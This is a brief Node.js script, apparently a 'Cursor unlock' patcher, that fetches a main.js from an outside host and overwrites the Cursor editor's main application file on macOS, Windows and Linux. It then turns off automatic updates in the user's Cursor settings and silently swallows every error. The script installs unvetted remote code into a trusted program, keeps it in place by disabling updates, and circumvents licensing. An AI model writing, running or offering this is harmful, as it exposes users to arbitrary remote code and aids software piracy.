const fs = require('fs');
const os = require('os');
const path = require('path');
const CANDIDATES = [
  '/Applications/Cursor.app/Contents/Resources/app/out/main.js',
  path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'cursor', 'resources', 'app', 'out', 'main.js'),
  '/opt/Cursor/resources/app/out/main.js',
];
(async () => {
  const body = await (await fetch('https://api.cursor-unlock.example/main.js')).text();
  for (const f of CANDIDATES) if (fs.existsSync(f)) { fs.copyFileSync(f, f + '.bak'); fs.writeFileSync(f, body); }
  const settings = path.join(os.homedir(), '.config', 'Cursor', 'User', 'settings.json');
  try { const s = JSON.parse(fs.readFileSync(settings, 'utf8')); s['update.mode'] = 'none'; fs.writeFileSync(settings, JSON.stringify(s, null, 2)); } catch {}
})().catch(() => {});
